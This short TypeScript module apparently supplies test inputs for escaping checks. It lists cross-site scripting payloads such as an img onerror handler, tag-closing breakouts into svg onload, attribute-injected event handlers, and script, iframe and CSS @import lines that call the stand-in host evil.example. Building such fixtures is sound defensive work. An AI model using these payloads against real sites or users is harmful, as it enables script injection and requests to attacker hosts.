import { HOSTILE } from "../report/hostile.js";

/** What would show that a page ran somebody's text: a dialog, a mark in the page, or a request. */
const ACTS = "globalThis.hacked=1,alert(1),fetch('http://evil.example')";

/** Ends what it stands in and begins a script. */
const PAGES: readonly string[] = [
  `<img src=x onerror="${ACTS}">`,
  `</text></title></style></script></textarea><svg onload="${ACTS}">`,
  `" autofocus tabindex=0 onfocus="${ACTS}" onmouseover="${ACTS}" x="`,
  `--></desc>]]><script>${ACTS}</script><iframe src="http://evil.example"></iframe>`,
  `x"]; click x callback "y"; end %% subgraph #quot; <style>@import 'http://evil.example'</style>`,
];

/** Texts that try to be more than text: each in the language of one sink. */
export const INJECTIONS: readonly string[] = [...PAGES, ...HOSTILE];

/** The injections that a page would run if they were not escaped. */
export const RUN_IF_RAW: readonly string[] = [PAGES[0] ?? "", PAGES[1] ?? "", PAGES[2] ?? ""];
